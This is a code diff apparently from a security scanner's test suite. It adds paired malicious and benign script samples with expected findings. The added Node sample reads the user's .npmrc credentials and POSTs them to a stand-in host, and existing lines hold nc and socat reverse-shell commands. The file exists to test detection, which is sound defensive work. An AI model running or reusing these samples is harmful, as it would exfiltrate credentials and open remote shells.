@@ -10,6 +10,10 @@ import (
 // script has a benign twin that does the ordinary thing with the same
 // tool.
 var moreTwins = []twin{
+	{name: "node request body from a credential file / from the user's input", file: "s.js",
+		bad:  "const fs = require('fs'), os = require('os'), https = require('https');\nconst data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({hostname: 'x.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
+		good: "const fs = require('fs'), https = require('https');\nconst data = fs.readFileSync(process.argv[2], 'utf8');\nconst req = https.request({hostname: 'api.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
+		cat:  core.ExternalResources, sev: core.Critical, source: ".npmrc", sink: "req.write", srcLine: 2, sinkLine: 4},
 	{name: "nc -e / nc -z", file: "a.sh", bad: "nc -e /bin/sh 10.0.0.1 4444\n", good: "nc -z db.local 5432\n",
 		cat: core.EmbeddedCode, sev: core.Critical, sink: "nc -e", sinkLine: 1},
 	{name: "socat exec / socat forward", file: "a.sh", bad: "socat TCP:10.0.0.1:4444 EXEC:/bin/bash\n", good: "socat TCP-LISTEN:8080,fork TCP:localhost:80\n",
